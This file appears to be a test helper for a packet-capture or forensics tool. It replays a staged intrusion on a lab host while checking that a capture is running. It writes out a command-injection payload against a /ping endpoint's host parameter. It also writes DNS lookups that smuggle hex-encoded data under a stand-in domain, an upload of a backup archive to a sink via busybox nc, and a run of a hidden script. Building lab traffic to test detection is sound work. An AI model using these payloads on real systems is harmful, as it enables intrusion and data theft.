import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { runningCaptures } from '../../src/main/collect/capture/running';
import type { LabHost, Truth } from '../lab';

/** The service's hole, as the intruder uses it: what comes as `host` reaches a shell. Resolves when the service has answered. */
function throughTheHole(host: LabHost, command: string): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = connect(8080, host.address, () => {
      socket.write(
        `GET /ping?host=${encodeURIComponent(`;${command}`)} HTTP/1.1\r\nUser-Agent: curl/8.1\r\nContent-Length: 0\r\n\r\n`,
      );
    });
    socket.setTimeout(30_000, () => socket.destroy(new Error('the staged web service does not answer')));
    socket
      .on('data', () => {})
      .on('error', reject)
      .on('close', () => resolve());
  });
}

/** The words of the incident's attack.sh that go over the wire: lookups with data in their names, the upload, the download. */
export function sendAgain(host: LabHost, { facts: { sink } }: Truth): Promise<void> {
  const names = ['update-cdn.example', '637573746f6d657273.t.update-cdn.example', '2e637376.t.update-cdn.example'];
  const archive = '/var/backups/shop/.dump.tgz';
  return throughTheHole(
    host,
    [
      ...names.map((name) => `busybox nslookup ${name} >/dev/null 2>&1`),
      `size=$(wc -c <${archive})`,
      `{ printf 'PUT /dump-web01.tgz HTTP/1.1\\r\\nHost: update-cdn.example\\r\\nContent-Length: %s\\r\\n\\r\\n' "$size"; sleep 2; cat ${archive}; sleep 1; } | busybox nc ${sink.address} 8080`,
      '/tmp/.ICE-unix/.cache/.d.sh',
    ].join('; '),
  );
}

/** Does `work` once, a moment after a capture of that container began in this core. Rejects where none begins in time. */
export async function whileCaptured(container: string, work: () => Promise<void>, within = 120_000): Promise<void> {
  const end = Date.now() + within;
  while (!runningCaptures().some(({ target }) => target === container)) {
    if (Date.now() > end) throw new Error(`no capture of ${container} began within ${within} ms`);
    await sleep(100);
  }
  await sleep(1000);
  await work();
}
